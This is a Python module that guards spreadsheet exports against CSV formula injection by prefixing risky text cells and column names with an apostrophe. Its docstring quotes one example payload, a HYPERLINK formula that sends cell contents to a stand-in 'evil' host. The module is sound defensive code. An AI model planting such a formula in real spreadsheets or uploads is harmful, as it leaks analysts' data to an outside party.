"""Tables the product hands to people as files (CSV, Excel): formulas neutralised.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some programs, a tab or carriage return) as a formula, so a value typed by
anyone upstream - ``=HYPERLINK("http://evil/?"&A1)`` in an uploaded row that
comes back with its prediction - would execute on the analyst's machine
(OWASP "CSV injection").  Every CSV/Excel the product writes goes through
:func:`neutralise_formulas`, which prefixes such *text* cells (and column
names) with ``'`` as OWASP recommends.  Numbers stay numbers: a numeric
column is never touched, nor is a text cell that is just a number (``-3.5``
is not a formula).  Machine consumers that want the bytes exactly as scored
ask for raw output (``?raw=true`` on the API, ``--raw`` on the CLI); Parquet
is not a spreadsheet format and is always written as is.
"""

from __future__ import annotations

import re
from pathlib import Path

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "neutralise_formulas", "neutralise_value", "to_csv_bytes", "write_table"]

#: First characters a spreadsheet may treat as the start of a formula.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise_value(value):
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def _is_text(series: pd.Series) -> bool:
    return not (pd.api.types.is_numeric_dtype(series) or pd.api.types.is_bool_dtype(series)
                or pd.api.types.is_datetime64_any_dtype(series) or pd.api.types.is_timedelta64_dtype(series))


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` safe to open in a spreadsheet (see the module docstring); ``frame`` is not changed."""
    out = frame.copy(deep=False)
    for i in range(len(out.columns)):
        col = out.iloc[:, i]
        if not _is_text(col):
            continue
        values = col.astype(object) if isinstance(col.dtype, pd.CategoricalDtype) else col
        changed = values.map(neutralise_value, na_action="ignore")
        if not changed.equals(values):
            out.isetitem(i, changed)
    out.columns = [neutralise_value(c) for c in out.columns]
    return out


def to_csv_bytes(frame: pd.DataFrame, raw: bool = False) -> bytes:
    """UTF-8 CSV of ``frame`` (formulas neutralised unless ``raw``)."""
    return (frame if raw else neutralise_formulas(frame)).to_csv(index=False).encode("utf-8")


def write_table(frame: pd.DataFrame, path: Path, raw: bool = False) -> Path:
    """Write ``frame`` by the file's suffix: .parquet as is, .xlsx as Excel, anything else as CSV (neutralised unless raw)."""
    path = Path(path)
    suffix = path.suffix.lower()
    if suffix == ".parquet":
        frame.to_parquet(path, index=False)
        return path
    safe = frame if raw else neutralise_formulas(frame)
    if suffix == ".xlsx":
        safe.to_excel(path, index=False)
    else:
        safe.to_csv(path, index=False)
    return path
